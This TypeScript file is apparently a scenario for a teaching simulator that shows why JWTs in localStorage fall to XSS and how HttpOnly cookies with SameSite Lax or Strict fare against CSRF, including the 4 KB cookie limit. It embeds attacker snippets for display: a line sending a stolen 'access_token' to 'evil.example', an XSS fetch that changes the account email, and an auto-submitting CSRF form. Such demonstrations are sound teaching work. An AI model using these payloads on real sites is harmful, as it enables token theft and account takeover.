/** The JWT in localStorage, then in an HttpOnly cookie, against XSS and CSRF; the 4 KB limit. */
import type { Scenario } from '../recorder';
import { LOGIN, USERS } from '../users';

/** Form-encoded as a browser would: "@" becomes %40. */
const EVIL_EMAIL = 'email=mallory%40evil.example';

/**
 * What the attackers' code looks like, shown beside the steps it drives. Code only, no prose, so
 * it reads the same in both languages; the heading above it says where it runs.
 */
const XSS_READ = `const t = localStorage.getItem('access_token');
new Image().src = 'https://evil.example/c?t=' + t;`;
const XSS_COOKIE = `document.cookie   // → ""`;
const XSS_FETCH = `fetch('/settings', {
  method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
  body: 'email=mallory%40evil.example',
});`;
const CSRF_FORM = `<form method="POST" action="https://app.example/settings">
  <input name="email" value="mallory@evil.example">
</form>
<script>document.forms[0].submit()</script>`;
const CSRF_IMG = `<img src="https://app.example/profile">`;
const CSRF_LINK = `<a href="https://app.example/profile">app.example/profile</a>`;

export const tokenStorage: Scenario = {
  topology: { servers: 1, auth: 'jwt', tokenIn: 'body' },
  async script(r) {
    const w = r.world;
    w.meetAttacker();
    await r.send('sim.token-storage.login', 'POST', '/login', { body: LOGIN });
    await r.sendBearer('sim.token-storage.profile', 'GET', '/profile');
    const token = w.token ?? '';
    r.steal('sim.token-storage.xss-read', [['access_token', token]], XSS_READ);
    await r.send('sim.token-storage.thief', 'GET', '/profile', {
      client: 'attacker',
      bearer: token,
    });
    await r.sendScripted(
      'sim.token-storage.csrf-bearer',
      'POST',
      '/settings',
      { initiator: 'evil', navigation: true, body: EVIL_EMAIL },
      CSRF_FORM,
    );
    // Round two, in a fresh browser; the attacker's copy from round one is set aside.
    w.browser.clear();
    w.loot?.clear();
    r.configure('sim.token-storage.cookie', { tokenIn: 'cookie', sameSite: 'Lax' });
    await r.send('sim.token-storage.cookie-login', 'POST', '/login', { body: LOGIN });
    await r.send('sim.token-storage.cookie-profile', 'GET', '/profile');
    r.steal('sim.token-storage.xss-cookie', [], XSS_COOKIE);
    await r.sendScripted(
      'sim.token-storage.xss-ride',
      'POST',
      '/settings',
      { initiator: 'xss', body: EVIL_EMAIL },
      XSS_FETCH,
    );
    await r.sendScripted(
      'sim.token-storage.csrf-post',
      'POST',
      '/settings',
      { initiator: 'evil', navigation: true, body: EVIL_EMAIL },
      CSRF_FORM,
    );
    await r.sendScripted(
      'sim.token-storage.csrf-img',
      'GET',
      '/profile',
      { initiator: 'evil' },
      CSRF_IMG,
    );
    await r.sendScripted(
      'sim.token-storage.csrf-link',
      'GET',
      '/profile',
      { initiator: 'evil', navigation: true },
      CSRF_LINK,
    );
    r.configure('sim.token-storage.strict', { sameSite: 'Strict' });
    await r.send('sim.token-storage.strict-login', 'POST', '/login', { body: LOGIN });
    await r.sendScripted(
      'sim.token-storage.strict-link',
      'GET',
      '/profile',
      { initiator: 'evil', navigation: true },
      CSRF_LINK,
    );
    await r.send('sim.token-storage.logout', 'POST', '/logout');
    const big = await w.send('POST', '/login', {
      body: `username=bob&password=${USERS.bob!.password}`,
    });
    const setCookie = big.response.headers.find(([n]) => n === 'Set-Cookie')?.[1] ?? '';
    const pair = setCookie.split(';')[0] ?? '';
    r.record('sim.token-storage.big-login', big, { cookie: pair.length - 1 });
    await r.send('sim.token-storage.big-profile', 'GET', '/profile');
  },
};
